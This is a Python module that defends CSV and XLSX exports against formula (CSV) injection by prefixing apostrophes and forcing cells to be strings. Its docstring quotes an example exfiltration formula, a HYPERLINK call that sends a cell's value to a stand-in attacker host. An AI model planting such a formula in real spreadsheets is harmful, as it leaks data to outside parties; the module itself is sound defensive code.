"""Text into spreadsheet cells that are never formulas (OWASP "CSV injection"), for every CSV and XLSX we write.

A leader's measure title or an imported name such as `=HYPERLINK("http://evil.example/?leak="&A1,"…")` must
reach the reader as the text it is. In XLSX the cell is typed as a string (never a formula) and marked with
Excel's quote prefix; in CSV, where a cell has no type, a leading apostrophe neutralises the dangerous start.
"""

from __future__ import annotations

from typing import Any, Final

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# The characters a spreadsheet reads as the start of a formula (OWASP), plus the ones that hide one after them.
FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NEUTRALISER: Final = "'"


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet would treat this text as (the start of) a formula."""
    return text.startswith(FORMULA_START)


def csv_cell(value: Any) -> str:
    """One CSV field: numbers as they are; text that starts like a formula is prefixed with an apostrophe."""
    if isinstance(value, bool) or value is None:
        return "" if value is None else str(value)
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    return NEUTRALISER + text if looks_like_formula(text) else text


def csv_row(values: Any) -> list[str]:
    """A whole CSV row through `csv_cell`."""
    return [csv_cell(value) for value in values]


def xlsx_cell(sheet: Worksheet, value: Any) -> Cell | Any:
    """A value for `Worksheet.append`: numbers stay numbers; every text is a string cell, never a formula."""
    if value is None or isinstance(value, bool | int | float):
        return value
    cell = Cell(sheet)
    cell.value = str(value)
    cell.data_type = "s"  # openpyxl types "=…" as a formula ("f") on assignment; a string it must stay
    if looks_like_formula(cell.value):
        cell.quotePrefix = True  # Excel keeps it text even when someone edits the cell
    return cell


def xlsx_row(sheet: Worksheet, values: Any) -> list[Any]:
    """A whole worksheet row through `xlsx_cell`."""
    return [xlsx_cell(sheet, value) for value in values]
